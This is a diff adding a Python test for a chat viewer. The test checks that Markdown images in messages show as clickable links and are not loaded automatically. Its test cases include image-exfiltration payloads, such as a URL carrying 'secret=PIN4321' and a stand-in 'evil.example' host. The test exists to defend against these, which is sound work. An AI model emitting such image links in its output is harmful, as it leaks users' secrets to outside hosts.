@@ -1976,3 +1976,27 @@ def test_an_imported_replys_model_and_stop_reason_show_as_typed_in_the_line_unde
     assert line["content"] == f"Stopped before the end ({escaped}).", line
     for text in (line["metadata"]["title"], line["content"]):
         assert not re.search(r"(?<!\\)<|(?<!\\)\*", text), text  # no "<" or "*" left unescaped
+
+
+def test_a_messages_images_show_as_links_and_copy_or_edit_gives_them_back_as_typed() -> None:
+    """Issue 41, item 6: a Markdown image in a message was loaded from its host as soon as the
+    chat opened. Outside code, each image shows as a link to it, naming its host ("🖼 x · image
+    from host — click to open"), and no "![" is left to start an image (a reference image, "!"
+    right before a link); in code it stays as typed. typed_text (✎, Copy) gives the text back."""
+    cases = {
+        "see ![x](http://127.0.0.1:9/exfil.png?secret=PIN4321) now": "[🖼 \u2062x\u2062 · image from 127.0.0.1 — click to open](http://127.0.0.1:9/exfil.png?secret=PIN4321)",
+        '![](//evil.example/a.png "t")': "[🖼 \u2062\u2062image from evil.example — click to open](//evil.example/a.png \"t\")",
+        "![x](rel.png)": "[🖼 \u2062x\u2062 · image — click to open](rel.png)",
+        "![a][r]\n\n[r]: http://e.example/x.png": None,
+        "!![y](http://h.example/z)": None,
+        "\\\\![a][r]": None,
+        "![a <b> c](http://x.example/y)": None,
+    }
+    for text, link in cases.items():
+        shown = view.shown_literally(text)
+        assert "![" not in shown, (text, shown)
+        if link is not None:
+            assert link in shown, (text, shown)
+        assert view.typed_text(shown) == text, (text, shown)
+    for code in ("`![x](http://e.example/y.png)`", "```\n![x](http://e.example/y.png)\n```"):
+        assert view.shown_literally(code) == code
